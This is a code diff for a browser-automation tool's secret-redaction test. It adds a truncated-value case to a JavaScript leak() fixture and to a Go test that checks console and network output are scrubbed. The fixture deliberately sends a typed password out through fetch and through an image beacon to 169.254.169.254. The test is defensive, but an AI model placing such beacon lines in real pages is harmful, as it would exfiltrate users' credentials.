@@ -53,6 +53,7 @@ function leak() {
 	document.getElementById("out").textContent = [v, encodeURIComponent(v), b64(v), btoa(v), hex(v)].join(" | ");
 	document.title = "Hi " + v;
 	console.log("typed", v, encodeURIComponent(v), b64(v), hex(v));
+	console.log("x".repeat(1990) + v); // cut by the toolset inside the value
 	fetch("/echo?pw=" + encodeURIComponent(v) + "&b=" + b64(v), {method: "POST", body: v});
 	new Image().src = "http://169.254.169.254/latest?pw=" + encodeURIComponent(v);
 	localStorage.setItem("pw", v); sessionStorage.setItem("b", b64(v));
@@ -173,6 +174,8 @@ func TestSecretsAreNeverReadBack(t *testing.T) {
 	console := check("console", mustOK(t, callTool(t, ts, s, "browser_console", nil)))
 	assert.Contains(t, console.Text, "typed REDACTED REDACTED REDACTED REDACTED")
 	assert.Contains(t, console.Text, "boom REDACTED")
+	assert.Contains(t, console.Text, "xxREDACTED…", "a value cut short is scrubbed too")
+	assert.NotContains(t, console.Text, secretValue[:10])
 	netw := check("network", mustOK(t, callTool(t, ts, s, "browser_network_requests", nil)))
 	assert.Contains(t, netw.Text, "/echo?pw=REDACTED&b=REDACTED")
 	assert.Contains(t, netw.Text, "169.254.169.254")
